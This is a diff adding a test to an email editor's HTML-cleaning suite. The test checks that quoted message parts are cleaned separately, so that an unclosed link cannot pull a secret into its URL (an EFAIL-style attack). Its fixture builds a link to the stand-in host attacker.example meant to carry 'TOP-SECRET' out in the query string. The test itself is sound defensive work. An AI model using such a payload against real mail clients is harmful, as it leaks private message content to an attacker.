@@ -2,6 +2,7 @@
 // Debian's Chromium, as there is no DOM in Node here), what formatting survives, and the editor HTML to and from plain text.
 
 import assert from 'node:assert/strict';
+import { HTML_PART_BREAK } from '../../shared/html-parts';
 import { existsSync } from 'node:fs';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -172,6 +173,13 @@ describe('editor HTML (in Chromium)', { skip }, () => {
     assert.equal(await clean('<div class="signature heron-x">s</div><p class="MsoNormal">p</p>'), '<div class="signature">s</div><p>p</p>');
     assert.equal(await clean('<html><head><title>t</title></head><body><p>only the body</p></body></html>'), '<p>only the body</p>');
     assert.equal(await clean(''), '');
+  });
+
+  it('cleans a quoted message\u2019s HTML parts apart, so a link left open in one cannot take in the next (EFAIL)', async () => {
+    const joined = `<p>Hi</p>${HTML_PART_BREAK}<a href="https://attacker.example/?${HTML_PART_BREAK}TOP-SECRET${HTML_PART_BREAK}">x</a>`;
+    const out = await clean(joined);
+    assert.ok(out.includes('TOP-SECRET'), 'the secret part is still quoted as text');
+    assert.doesNotMatch(out, /href="[^"]*TOP-SECRET/);
   });
 
   it('turns editor HTML into readable plain text', async () => {
